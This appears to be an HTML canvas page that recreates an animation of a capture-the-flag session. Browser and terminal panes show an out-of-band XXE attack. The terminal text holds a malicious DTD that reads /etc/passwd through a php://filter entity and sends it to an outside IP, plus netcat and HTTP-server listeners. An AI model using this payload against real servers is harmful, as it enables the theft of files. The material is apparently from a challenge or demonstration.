
These frames come from a looping animation (998x561 px, 8 s). An HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #303234; }
canvas { display: block; width: 998px; height: 561px; }
</style>
</head>
<body>
<canvas id="stage" width="998" height="561"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000;
const MONO = '"Noto Sans Mono", "DejaVu Sans Mono", monospace';
const TYPE = '"Liberation Mono", monospace';
const SANS = '"Liberation Sans", sans-serif';
const TERM = 'bold 9.525px ' + MONO;
const COL = 5.715, ROW = 13, LEFT = 502;
const NAVY = '#00002a', PAGE = '#111111';
const BLUE = '#4c9bf5', RED = '#f8433f', ORANGE = '#f09a3a', GREEN = '#1fb58c';

const TOP_FOCUS = 235, LOW_FOCUS = 7400, BLINK = 570;

const user = 'tovo@stonemill', path = '~/chall/xxe_oob';
const PROMPT = null;
const topRows = [
  PROMPT, '> ls', 'bite.dtd', '',
  PROMPT, '> cat bite.dtd',
  '<!ENTITY % stuff SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">',
  '<!ENTITY % param1 "<!ENTITY external SYSTEM \'http://51.75.29.170:12346/a.php?data=%st',
  'uff;\'>">', '',
  PROMPT, '> python3 -m http.server 12345',
  'Serving HTTP on 0.0.0.0 port 12345 ...'
];
const lowRows = [PROMPT, '> nc -lvp 12346', 'Listening on [0.0.0.0] (family 0, port 12346)'];

// pointer path: time, x, y
const pointer = [
  [560, 590, 150], [950, 516, 65], [1500, 516, 65], [2150, 566, 84], [2200, 566, 84],
  [2510, 690, 122], [2730, 690, 122], [2870, 743, 128], [3370, 862, 131], [3510, 862, 131],
  [3910, 893, 117], [4140, 893, 117], [4300, 911, 112], [4940, 967, 118], [5040, 967, 118],
  [5240, 741, 161], [5770, 700, 178], [5920, 700, 178], [6650, 653, 186], [6730, 665, 184],
  [7000, 665, 184], [7650, 716, 329], [7700, 716, 329], [7920, 734, 332]
];

const clamp = v => Math.max(0, Math.min(1, v));
const mix = (a, b, k) => 'rgb(' + a.map((v, i) => Math.round(v + (b[i] - v) * k)) + ')';

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}
function box(x, y, w, h, color, r = 0, lw = 1) {
  ctx.strokeStyle = color;
  ctx.lineWidth = lw;
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, r);
  ctx.stroke();
}
function dot(x, y, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, 7);
  ctx.fill();
}
function ring(x, y, r, color, lw = 1, from = 0, to = 2 * Math.PI) {
  ctx.strokeStyle = color;
  ctx.lineWidth = lw;
  ctx.beginPath();
  ctx.arc(x, y, r, from, to);
  ctx.stroke();
}
function trace(points) {
  ctx.beginPath();
  for (let i = 0; i < points.length; i += 2) ctx.lineTo(points[i], points[i + 1]);
}
function line(color, lw, ...points) {
  trace(points);
  ctx.strokeStyle = color;
  ctx.lineWidth = lw;
  ctx.stroke();
}
function poly(color, ...points) {
  trace(points);
  ctx.fillStyle = color;
  ctx.fill();
}
function text(s, x, y, font, color, align = 'left') {
  ctx.font = font;
  ctx.fillStyle = color;
  ctx.textAlign = align;
  ctx.fillText(s, x, y);
}

function drawBar(t) {
  const label = (s, x, color) => text(s, x, 9, 'bold 7.05px ' + MONO, color);
  dot(14, 6, 3.2, '#2f9be0');
  line(BLUE, 1, 40.5, 4, 38.5, 6.2, 40.5, 8.5);
  line(BLUE, 1, 43.2, 3.5, 41.3, 9);
  line(BLUE, 1, 44.3, 4, 46.3, 6.2, 44.3, 8.5);
  rect(58, 0, 28, 12, '#d9dadb');
  line('#444', 1, 68.5, 4, 70.8, 6, 68.5, 8);
  line('#444', 1, 71.5, 8.5, 75, 8.5);

  ring(498, 5, 1.5, BLUE, 1.2);
  line(BLUE, 1.2, 499, 6, 502, 9);
  label('down', 507, BLUE);
  poly(RED, 533, 6.2, 537, 2.5, 541, 6.2, 539.8, 6.2, 539.8, 9.5, 534.2, 9.5, 534.2, 6.2);
  label('33G', 545, RED);
  for (const d of [0, 2.6]) {
    line(RED, 1, 570 + d, 3, 569 + d, 9.5);
    line(RED, 1, 567.5, 5 + d, 574, 5 + d);
  }
  label('4,6G', 579, RED);
  line(ORANGE, 2, 607, 2.5, 607, 8);
  dot(607, 8.2, 1.9, ORANGE);
  label('41.0°C', 613, ORANGE);
  ring(652, 6, 2.1, GREEN, 1.9);
  for (let a = 0; a < 8; a++) dot(652 + 3 * Math.cos(a * .785), 6 + 3 * Math.sin(a * .785), .7, GREEN);
  label(t < 2200 ? '13.3G' : '13.2G', 658, GREEN);
  poly(RED, 689, 6, 693, 2.8, 693, 9.2);
  label('MUTE', 698, RED);
  box(725.5, 4, 7, 4.5, ORANGE);
  rect(726.5, 5, 3, 2.5, ORANGE);
  rect(733.2, 5, 1, 2.5, ORANGE);
  label('58%', 738, ORANGE);
  for (const r of [2, 4]) ring(765, 8, r, BLUE, 1.2, -2.4, -.74);
  dot(765, 8.4, 1, BLUE);
  label((t < 5040 ? '88' : '87') + ' ONDE_82C6%', 772, BLUE);
  ring(840.5, 6, 2.9, GREEN);
  line(GREEN, 1, 840.5, 4, 840.5, 6.3, 842, 6.3);
  label('02:04', 847, GREEN);
  box(879, 3.5, 6, 6, RED);
  rect(879, 4, 6, 1.5, RED);
  rect(881, 7, 2, 1, RED);
  label('samedi22', 889, RED);

  for (let i = 0; i < 3; i++) rect(932.5 + i * 2, 8 - i * 2, 1.3, 2 + i * 2, '#8fa3b5');
  dot(946, 6, 3.6, '#3f88c8');
  dot(957.5, 6, 4.5, '#e0455c');
  dot(969, 6, 3.8, '#c41fb5');
  dot(980, 6, 4.1, '#e9edee');
  dot(980, 6, 1.6, '#8b9295');
  const recording = Math.floor((t - 605) / 783 + 1) % 2 === 0;
  if (recording) {
    rect(986.5, 2, 9.5, 8.5, '#d8202c');
    dot(991, 6, 2.2, '#5a0b12');
  } else {
    dot(991, 6, 4.2, '#f0f2f3');
    dot(991, 6, 2, '#3a3c3e');
  }
}

function drawDesktop() {
  rect(0, 0, 998, 561, '#303234');
  rect(497, 15, 4, 543, '#252628');
  rect(501, 285, 494, 4, '#2b2d2f');
  for (const [y, h] of [[178, 27], [242, 20], [299, 2], [326, 2], [355, 28]]) rect(497.5, y, 4, h, '#c5c7c9');
  rect(516, 285, 16, 4, '#d5d7d9');
  rect(548, 285, 18, 4, '#3f5878');
  rect(566, 285, 36, 4, '#c9cccf');
}

function drawChrome() {
  const ink = '#4a4a4f';
  rect(4, 16, 492, 18, '#e6e6e8');
  rect(4, 16, 117, 18, '#f5f6f7');
  rect(120.5, 17, .8, 17, '#b5b5b8');
  text('THE GRIM TOMBOLA', 9, 28, '7.75px ' + SANS, '#18181a');
  line(ink, 1, 109.5, 23, 114, 27.5);
  line(ink, 1, 114, 23, 109.5, 27.5);
  line(ink, 1, 125.5, 25, 133, 25);
  line(ink, 1, 129.2, 21.2, 129.2, 28.8);

  rect(4, 34, 492, 21, '#f5f6f7');
  rect(4, 54, 492, 1, '#cfcfd2');
  dot(12, 44.5, 3.7, '#3c3c40');
  dot(31, 44, 8.3, '#ffffff');
  ring(31, 44, 8, '#9a9a9e', .9);
  line(ink, 1.2, 35, 44, 27.5, 44);
  line(ink, 1.2, 30.5, 40.8, 27.3, 44, 30.5, 47.2);
  line('#b4b4b8', 1.2, 44.5, 44, 51.5, 44);
  line('#b4b4b8', 1.2, 48.6, 40.8, 51.8, 44, 48.6, 47.2);
  ring(65, 44, 3.2, ink, 1.2, .4, 5.5);
  poly(ink, 69, 40, 69, 43.6, 65.5, 43.6);

  ctx.fillStyle = '#fff';
  ctx.beginPath();
  ctx.roundRect(76.5, 37.5, 361, 14, 2);
  ctx.fill();
  box(76.5, 37.5, 361, 14, '#c6c6c9', 2);
  ring(84.5, 44, 3.3, '#6a6a6e', .9);
  rect(84, 43.5, 1, 2.6, '#6a6a6e');
  rect(84, 41.8, 1, 1, '#6a6a6e');
  dot(95.5, 44.5, 3.2, '#4fa528');
  const font = '7.65px ' + SANS, host = 'scgz54b2lftqkkvn.onion';
  text(host, 104, 47, font, '#111');
  text('/play.php', 104 + ctx.measureText(host).width, 47, font, '#77777b');
  for (let i = 0; i < 3; i++) dot(413.2 + i * 3.2, 44, 1, ink);
  const star = [];
  for (let i = 0; i <= 10; i++) {
    const r = i % 2 ? 1.8 : 4, a = i * Math.PI / 5 - Math.PI / 2;
    star.push(431 + r * Math.cos(a), 44.3 + r * Math.sin(a));
  }
  line(ink, .9, ...star);
  rect(446.5, 41, 6, 6.5, '#163a78');
  rect(462, 40, 8.5, 8.5, '#1680c4');
  for (let i = 0; i < 3; i++) rect(482.5, 41 + i * 2.7, 7.5, 1, ink);
}

function drawTicket() {
  const green = '#196400';
  rect(188, 377, 124, 65, green);
  for (const x of [188, 312]) {
    for (const y of [377, 442]) dot(x, y, 9.5, PAGE);
    for (let i = 0; i < 7; i++) dot(x, 391.5 + i * 6, 2, PAGE);
  }
  box(202, 388, 96.5, 43.5, PAGE, 4, 3);
  text('TICKET', 250, 418, '22.2px ' + SANS, PAGE, 'center');
}

function drawBrowser(t) {
  rect(3, 15, 494, 543, PAGE);
  drawChrome();

  ctx.save();
  ctx.letterSpacing = '4.8px';
  ctx.shadowColor = '#00d010';
  ctx.shadowBlur = 9;
  text('GRIM_TOMBOLA', 105, 186.5, '32px ' + TYPE, '#00fa10');
  ctx.restore();

  const say = (s, y) => text(s, 250, y, '9.5px ' + TYPE, '#075a07', 'center');
  say('Did you already buy a ticket?', 256);
  say('We are waiting for your participation.', 267.5);
  say('Wrong format of ticket', 301);
  drawTicket();

  const fade = clamp((t - 200) / 150);
  const green = mix([0, 218, 10], [4, 84, 6], fade);
  box(214.5, 463, 72, 20.5, green, 2);
  text('PLAY', 250, 476, '7.8px ' + SANS, green, 'center');
  box(3.5, 15.5, 493, 542, t < TOP_FOCUS ? '#3f8a9b' : '#1d2124');
}

function drawRow(s, y) {
  if (s === PROMPT) {
    text(user, LEFT, y, TERM, '#1d9bf2');
    text(':', LEFT + user.length * COL, y, TERM, '#fff');
    text(path, LEFT + (user.length + 1) * COL, y, TERM, '#4f9fe8');
  } else if (s.startsWith('> ')) {
    poly('#9a9aa8', 503, y - 6.3, 508, y - 3.5, 503, y - .8);
    text(s.slice(2), LEFT + 2 * COL, y, TERM, '#fff');
  } else {
    text(s, LEFT, y, TERM, '#fff');
  }
}

function drawTerminal(y, h, rows, focus, cursorY, cursor) {
  rect(500.5, y, 494.5, h, NAVY);
  rows.forEach((s, i) => drawRow(s, y + 25 + i * ROW));
  if (cursor === 'hollow') box(502.5, cursorY + .5, 5.5, 12.5, '#d8d8e0');
  if (cursor === 'solid') rect(502, cursorY, 6, 13, '#fff');
  box(501, y + .5, 493.5, h - 1, focus ? '#48a0b2' : '#1f3a46');
}

function drawSelection(row, col, count) {
  const x = LEFT + col * COL, y = 15 + 25 + row * ROW;
  rect(x, y - 10, count * COL, ROW, '#fff');
  text(topRows[row].slice(col, col + count), x, y, TERM, NAVY);
}

function drawSelections(t) {
  if (t >= 1450 && t < 4250) drawSelection(2, 0, 8);
  else if (t >= 4250 && t < 6890) drawSelection(6, 69, Math.round(1 + 11 * clamp((t - 4310) / 500)));
  else if (t >= 6890) drawSelection(11, 25, 5);
}

function drawPointer(t) {
  if (t < pointer[0][0]) return;
  const next = pointer.findIndex(p => p[0] > t);
  const b = pointer.at(next), a = next < 0 ? b : pointer[next - 1];
  const k = next < 0 ? 0 : (t - a[0]) / (b[0] - a[0]), e = k * k * (3 - 2 * k);
  const x = a[1] + (b[1] - a[1]) * e, y = a[2] + (b[2] - a[2]) * e;
  if (t >= 4250 && t < 4340) dot(x - 4, y + 1, 3.2, 'rgba(45,130,180,.8)');
  for (const [color, lw] of [['#101018', 2.2], ['#c9ccd2', 1]]) {
    line(color, lw, x, y - 4.5, x, y + 4.5);
    line(color, lw, x - 2.5, y - 4.8, x + 2.5, y - 4.8);
    line(color, lw, x - 2.5, y + 4.8, x + 2.5, y + 4.8);
  }
}

function cursorState(t, start, end) {
  if (t < start || t >= end) return 'hollow';
  return Math.floor((t - start) / BLINK) % 2 ? 'off' : 'solid';
}

function draw(t) {
  drawDesktop();
  drawBar(t);
  drawBrowser(t);
  const topOn = t >= TOP_FOCUS && t < LOW_FOCUS, lowOn = t >= LOW_FOCUS;
  drawTerminal(15, 270, topRows, topOn, 199, cursorState(t, TOP_FOCUS, LOW_FOCUS));
  drawTerminal(288.5, 269, lowRows, lowOn, 342, cursorState(t, LOW_FOCUS, LOOP));
  drawSelections(t);
  drawPointer(t);
}

const began = performance.now();
function tick() {
  draw((performance.now() - began) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
